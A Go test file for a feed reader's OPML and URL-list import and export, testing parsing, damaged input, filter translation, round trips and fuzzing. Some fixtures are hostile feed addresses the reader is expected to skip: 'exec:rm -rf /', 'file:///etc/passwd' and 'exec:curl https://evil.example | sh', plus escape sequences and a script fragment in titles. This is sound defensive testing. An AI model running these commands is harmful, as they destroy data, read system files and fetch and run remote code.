package opml

import (
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"reflect"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"warta/feed"
	"warta/feed/query"
)

func read(t *testing.T, text string) Subscriptions {
	t.Helper()
	list, err := Read(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return list
}

// summary is a list in short: a line for each feed.
func summary(list Subscriptions) string {
	var b strings.Builder
	for _, f := range list.Feeds {
		b.WriteString(f.Folder + " | " + f.Title + " | " + f.URL + " | " + f.Site + " | " + strings.Join(f.Tags, ",") + "\n")
	}
	return b.String()
}

const nested = `<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>My feeds</title></head><body>
<outline text="World"><outline text="Asia"><outline type="rss" text="Kabar &amp; Warta" title="Kabar" xmlUrl="https://a.example/f" htmlUrl="https://a.example/"/></outline>
<outline text="Plain" xmlUrl="http://b.example/f?x=1&amp;y=2" category="dry,/ignored"/></outline>
<outline TEXT="Loose" XMLURL="feed://c.example/f" category="/Set/Aside,tag one"/>
<outline text="Again" xmlUrl="https://a.example/f" category="more"/>
<outline text="A list" type="include" url="https://d.example/other.opml"/>
<outline text="Danger" type="rss" xmlUrl="exec:rm -rf /"/>
<outline text="File" type="rss" xmlUrl="file:///etc/passwd"/>
</body></opml>`

func TestReadOPML(t *testing.T) {
	list := read(t, nested)
	want := `World/Asia | Kabar | https://a.example/f | https://a.example/ | more
World | Plain | http://b.example/f?x=1&y=2 |  | dry
Set/Aside | Loose | https://c.example/f |  | tag one
`
	if got := summary(list); got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	if list.Title != "My feeds" {
		t.Errorf("title %q", list.Title)
	}
	if len(list.Skipped) != 3 || !strings.Contains(list.Skipped[1].Reason, "program") || list.Skipped[1].Line != 8 {
		t.Errorf("skipped %+v", list.Skipped)
	}
}

func TestReadDamagedOPML(t *testing.T) {
	for name, text := range map[string]string{
		"cut short":     `<opml version="1.0"><body><outline text="A"><outline text="B" xmlUrl="https://b.example/"/><outline text="C" xmlU`,
		"bare &":        `<opml><body><outline text="A"><outline text="B" xmlUrl="https://b.example/"/></outline><outline text="Q&A & more"/></body></opml>`,
		"escape":        "<opml><body><outline text='A'><outline text='B\x1b' xmlUrl='https://b.example/'/></outline></body></opml>",
		"no quotes":     `<opml><body><outline text=A><outline text=B xmlUrl='https://b.example/'/></outline></body></opml>`,
		"windows-1252":  "<?xml version='1.0' encoding='windows-1252'?><opml><head><title>\xe9</title></head><body><outline text='A'><outline text='B' xmlUrl='https://b.example/'/></outline></body></opml>",
		"UTF-16":        "\xff\xfe" + wide(`<opml><body><outline text="A"><outline text="B" xmlUrl="https://b.example/"/></outline></body></opml>`),
		"wrong charset": "<?xml version='1.0' encoding='UTF-8'?><opml><head><title>\xe9</title></head><body><outline text='A'><outline text='B' xmlUrl='https://b.example/'/></outline></body></opml>",
	} {
		list, err := Read(strings.NewReader(text))
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if got := summary(list); got != "A | B | https://b.example/ |  | \n" {
			t.Errorf("%s: got %q", name, got)
		}
	}
}

func wide(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func TestReadNothing(t *testing.T) {
	for _, text := range []string{"<html><body>no</body></html>", "just some words\nand more", `<rss><channel/></rss>`, `{"a":1}`} {
		if _, err := Read(strings.NewReader(text)); !errors.Is(err, ErrNotList) {
			t.Errorf("%q: error %v", text, err)
		}
	}
	for _, text := range []string{"", "\n", "# nothing yet\n", `<opml version="2.0"><body/></opml>`} {
		if list, err := Read(strings.NewReader(text)); err != nil || len(list.Feeds) > 0 {
			t.Errorf("%q: %+v, error %v", text, list, err)
		}
	}
	if _, err := Read(io.LimitReader(zeros{}, MaxSize+5)); err == nil {
		t.Error("no error for a list that is too long")
	}
}

func TestReadTooDeep(t *testing.T) {
	deep := strings.Repeat(`<outline text="x">`, 50_000)
	if _, err := Read(strings.NewReader("<opml><body>" + deep)); !errors.Is(err, errTooDeep) {
		t.Errorf("error %v", err)
	}
	list := read(t, `<opml><body><outline xmlUrl="https://a.example/f"/>`+deep)
	if len(list.Feeds) != 1 || len(list.Skipped) != 1 {
		t.Errorf("got %d feeds, skipped %+v", len(list.Feeds), list.Skipped)
	}
	list = read(t, "<opml><body>"+strings.Repeat(`<outline text="x">`, 100)+`<outline xmlUrl="https://a.example/f"/>`)
	if got := strings.Count(list.Feeds[0].Folder, "x"); got != maxFolders {
		t.Errorf("%d folders", got)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func TestReadURLs(t *testing.T) {
	list := read(t, `# my feeds
https://a.example/f
https://b.example/f "World/Asia" news "~The B Paper" !
https://c.example/f tech # a remark
"query:Fresh:unread = \"yes\" and (tags # \"tech\" or age < 3)"
"query:Odd:links > 3"
"exec:curl https://evil.example | sh"
filter:~/bin/x:https://d.example/f
gopher://e.example/
`)
	want := ` |  | https://a.example/f |  | 
World/Asia | The B Paper | https://b.example/f |  | World/Asia,news
tech |  | https://c.example/f |  | tech
`
	if got := summary(list); got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	if len(list.Views) != 2 || list.Views[1].Query != "feed:\"https://b.example/f\"" || list.Views[0].Name != "Fresh" || list.Views[0].Query != "unread (in:tech or newer:3d)" {
		t.Errorf("views %+v", list.Views)
	}
	var reasons []string
	for _, s := range list.Skipped {
		reasons = append(reasons, s.Reason)
	}
	if len(reasons) != 5 || list.Skipped[1].Line != 7 {
		t.Errorf("skipped %q", reasons)
	}
}

// What stands in several places has one folder here, and views for the others.
func TestSeveralPlaces(t *testing.T) {
	list := read(t, `"query:Tech:unread = \"yes\" and tags # \"tech\""
"query:No tech:tags !# \"tech\""
https://a.example/f world tech
https://b.example/f tech
https://c.example/f world late tech
`)
	tech := `in:tech or feed:"https://a.example/f" or feed:"https://c.example/f"`
	want := []feed.View{{Name: "Tech", Query: "unread (" + tech + ")", Own: true}, {Name: "No tech", Query: "-(" + tech + ")", Own: true},
		{Name: "tech", Query: tech, Own: true}, {Name: "late", Query: `feed:"https://c.example/f"`, Own: true}}
	if !reflect.DeepEqual(list.Views, want) {
		t.Errorf("%+v, want %+v", list.Views, want)
	}
	list = read(t, `<opml><body><outline text="News"><outline text="A" xmlUrl="https://a.example/f"/></outline>
<outline text="Must read"><outline text="A" xmlUrl="https://a.example/f"/><outline text="B" xmlUrl="https://b.example/f"/></outline></body></opml>`)
	want = []feed.View{{Name: "Must read", Query: `in:"Must read" or feed:"https://a.example/f"`, Own: true}}
	if !reflect.DeepEqual(list.Views, want) || list.Feeds[0].Folder != "News" {
		t.Errorf("%+v, want %+v", list, want)
	}
	for _, v := range list.Views {
		if _, err := query.Parse(v.Query); err != nil {
			t.Error(err)
		}
	}
}

// TestTranslate checks that what is made of a filter is a query.
func TestTranslate(t *testing.T) {
	for _, c := range []struct{ filter, want string }{
		{`unread = "yes"`, "unread"},
		{`unread="no"`, "read"},
		{`unread != "yes"`, "-unread"},
		{`title =~ "rice price"`, `title:"rice price"`},
		{`title !~ "^sport$"`, "-title:sport"},
		{`content =~ ".*ferry.*" and author = "Ann"`, "ferry author:Ann"},
		{`(tags # "a b" or tags !# "c") and unread == "yes"`, `(in:"a b" or -in:c) unread`},
		{`age between 0:10`, "newer:11d"},
		{`age between 2:10`, "(older:2d newer:11d)"},
		{`age > 7`, "older:8d"},
		{`rssurl =~ "example\.org"`, "feed:example.org"},
		{`title =~ "a|b"`, ""},
		{`flags # "s"`, "starred"},
		{`flags !# "s"`, "-starred"},
		{`flags =`, ""},
		{`unread =`, ""},
		{`(unread = "yes"`, ""},
		{strings.Repeat("(", 10_000), ""},
		{`unread = "yes" extra`, ""},
	} {
		got, err := translate(c.filter, func(tag string) string { return "in:" + quote(tag) })
		if err != nil {
			got = ""
		}
		if got != c.want {
			t.Errorf("%.80s: %q (%v), not %q", c.filter, got, err, c.want)
		}
		if _, err := query.Parse(got); err != nil {
			t.Errorf("%s: %q is no query: %v", c.filter, got, err)
		}
	}
}

func TestRoundTrip(t *testing.T) {
	list := Subscriptions{
		Title: `All "mine" <&>`,
		Feeds: []Subscription{
			{URL: "https://a.example/f?x=1&y=2", Title: `Tom & "Jerry" <b>`, Site: "https://a.example/", Folder: "World/Asia", Tags: []string{"dry", "two words"}},
			{URL: "https://b.example/f", Folder: "World"},
			{URL: "https://c.example/f", Title: "Ünïcödé 新聞 👨‍👩‍👧"},
			{URL: "https://d.example/f", Title: "Later", Folder: "World/Asia"},
		},
		Views: []feed.View{{Name: "Fresh", Query: `unread in:"World/Asia" newer:2d`, Own: true}},
	}
	var out bytes.Buffer
	if err := Write(&out, list); err != nil {
		t.Fatal(err)
	}
	got := read(t, out.String())
	// Feeds stand by folder in the list, so the order is that of the folders.
	want := list
	want.Feeds = []Subscription{list.Feeds[2], list.Feeds[1], list.Feeds[0], list.Feeds[3]}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v\nin %s", got, want, out.String())
	}
}

// TestWriteHostile checks that the list is XML whatever the titles hold.
func TestWriteHostile(t *testing.T) {
	list := Subscriptions{Title: "\x1b]0;x\x07", Views: []feed.View{{Name: "\x00", Query: "\u202e"}}}
	for _, s := range []string{"\x00\x1b[31m", "\xff\xfe", "\u0085\u009b", "\u202e\u2066", "]]>", `"><script>`, "\ufffe\uffff", "a\nb\tc", strings.Repeat("x", 5000)} {
		list.Feeds = append(list.Feeds, Subscription{URL: "https://a.example/" + s, Title: s, Site: s, Folder: s + "/" + s, Tags: []string{s}})
	}
	var out bytes.Buffer
	if err := Write(&out, list); err != nil {
		t.Fatal(err)
	}
	checkXML(t, out.Bytes())
}

func checkXML(t *testing.T, text []byte) {
	t.Helper()
	decoder := xml.NewDecoder(bytes.NewReader(text))
	for {
		if _, err := decoder.Token(); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatalf("%v in %q", err, text)
		}
	}
	for _, r := range string(text) {
		if r != '\n' && !isText(r) {
			t.Fatalf("%U in %q", r, text)
		}
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("full") }

func TestWriteFails(t *testing.T) {
	if err := Write(failing{}, Subscriptions{}); err == nil {
		t.Error("no error")
	}
}

// FuzzOPML checks that what is read can be written, and reads the same again.
func FuzzOPML(f *testing.F) {
	f.Add([]byte(nested))
	f.Add([]byte("https://a.example/f \"~T\" tag\n\"query:Q:unread = \\\"yes\\\"\"\nexec:x"))
	f.Add([]byte("\xff\xfe<\x00o\x00p\x00m\x00l\x00>\x00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		list, err := Read(bytes.NewReader(data))
		if err != nil {
			return
		}
		for _, s := range list.Feeds {
			if !strings.HasPrefix(strings.ToLower(s.URL), "http") {
				t.Errorf("address %q", s.URL)
			}
		}
		var out bytes.Buffer
		if err := Write(&out, list); err != nil {
			t.Fatal(err)
		}
		checkXML(t, out.Bytes())
		again, err := Read(&out)
		if err != nil {
			t.Fatal(err)
		}
		if len(again.Feeds) != len(list.Feeds) || len(again.Skipped) > 0 {
			t.Fatalf("%d feeds came back of %d: %+v", len(again.Feeds), len(list.Feeds), again.Skipped)
		}
		folders := map[string]string{}
		for _, s := range again.Feeds {
			folders[s.URL] = s.Folder
		}
		for _, s := range list.Feeds {
			if folders[s.URL] != s.Folder {
				t.Errorf("%q was in %q, now in %q", s.URL, s.Folder, folders[s.URL])
			}
		}
	})
}

// Lists of other readers are read as those meant them.
func TestExporters(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/exporters.txtar")
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(archive.Files); i += 2 {
		in, want := archive.Files[i], archive.Files[i+1]
		t.Run(in.Name, func(t *testing.T) {
			list := read(t, string(in.Data))
			got := summary(list)
			for _, v := range list.Views {
				got += "view " + v.Name + ": " + v.Query + "\n"
			}
			for _, s := range list.Skipped {
				got += "left out: " + s.Text + ": " + s.Reason + "\n"
			}
			if got != string(want.Data) {
				t.Errorf("got\n%swant\n%s", got, want.Data)
			}
		})
	}
}
